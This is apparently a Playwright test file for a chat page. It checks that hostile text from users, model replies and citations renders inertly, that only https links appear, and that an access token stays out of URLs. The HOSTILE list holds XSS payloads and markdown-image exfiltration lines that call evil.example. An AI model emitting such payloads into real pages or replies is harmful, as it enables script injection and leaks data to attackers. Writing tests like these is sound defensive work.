"""Words from visitors, models and documents stay words: no element, request or dialog comes out of them."""

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Visit
from tests.browser.stub_desk import StubDesk
from tests.browser.test_demo_page import ask, questions

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><a href='https://evil.example'>x</a></svg>",
    '"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "![x](https://evil.example/?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](//evil.example/)",
    "[click](https://shop.example@evil.example/)",
    '[click](https://evil.example/"onmouseover="alert(1))',
    "<https://evil.example/auto>",
    '<style>@import "https://evil.example/a.css";</style>',
    "<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>",
    "<form action=https://evil.example><button>Send</button></form>",
    "`<img src=x onerror=alert(1)>` **<b onclick=alert(1)>x</b>**",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "- <img src=x onerror=alert(1)>\n1. <script>alert(1)</script>\n# <iframe src=https://evil.example>",
    "\u202egpj.exe\u2066 \x00 \U0001f600",
]
ALLOWED = {"A", "BR", "BUTTON", "CITE", "CODE", "DIV", "H3", "H4", "I", "LI", "OL", "P", "SPAN", "STRONG", "UL"}
DRAWN_ELEMENTS = "nodes => nodes.filter(n => !n.closest('svg')).map(n => n.tagName)"
LINKS = "nodes => nodes.map(n => [n.protocol, n.username, n.rel, n.target])"
LISTENERS = "nodes => nodes.flatMap(n => n.getAttributeNames()).filter(name => /^on|^style$|^src/.test(name))"


async def drawn_is_harmless(page: Page) -> None:
    everything = page.locator(".log *")
    assert set(await everything.evaluate_all(DRAWN_ELEMENTS)) <= ALLOWED
    assert await everything.evaluate_all(LISTENERS) == []
    for link in await page.locator(".log a").evaluate_all(LINKS):
        assert link == ["https:", "", "noopener noreferrer nofollow", "_blank"]


async def test_hostile_words_are_only_words_wherever_they_come_from(page: Page, desk: StubDesk) -> None:
    session = await desk.session()
    for number, words in enumerate(HOSTILE, start=1):
        await ask(page, words)
        turn = await session.turn(number)
        turn.start()
        turn.say(*words)  # one character at a time: half-written markup is drawn too
        turn.cite({"n": 1, "title": words, "source": words, "url": words})
        turn.ask("offered", f"Really? {words}", words)
        await drawn_is_harmless(page)
        turn.finish()
        await expect(page.locator(".chip")).to_have_text([words])
        await drawn_is_harmless(page)
    for _ in ("told", "restored"):
        await expect(questions(page)).to_have_text([turn.message for turn in session.turns])
        await expect(page.locator(".sources cite")).to_have_text(HOSTILE)
        await drawn_is_harmless(page)
        await page.reload()


async def test_a_link_without_https_is_only_its_words(page: Page, desk: StubDesk) -> None:
    await ask(page, "links?")
    turn = await (await desk.session()).turn(1)
    turn.start()
    turn.say("[plain](http://shop.example) [safe](https://shop.example/a)")
    turn.cite({"n": 1, "title": "Local", "source": "docs/a.md", "url": "javascript:alert(1)"})
    turn.finish()
    await expect(page.locator(".sources li")).to_have_count(1)
    assert await page.locator(".log a").evaluate_all("nodes => nodes.map(n => n.href)") == ["https://shop.example/a"]


async def test_the_token_travels_only_in_a_header(visit: Visit, desk: StubDesk) -> None:
    page = await visit.open()
    await ask(page, "where is it?")
    await (await desk.session()).turn(1)
    assert all("token" not in path and "token" not in str(body) for _, path, body in desk.calls)
    assert await visit.context.cookies() == []
    assert "token" not in await page.content()


async def test_the_chat_works_under_a_policy_that_parses_no_markup_at_all(visit: Visit) -> None:
    page = await visit.open()
    refused = "() => { try { document.body.innerHTML = '<b>x</b>'; return false; } catch { return true; } }"
    assert await page.evaluate(refused)
    assert "TrustedHTML" in visit.offences.pop()  # and it is the only complaint of the page's life
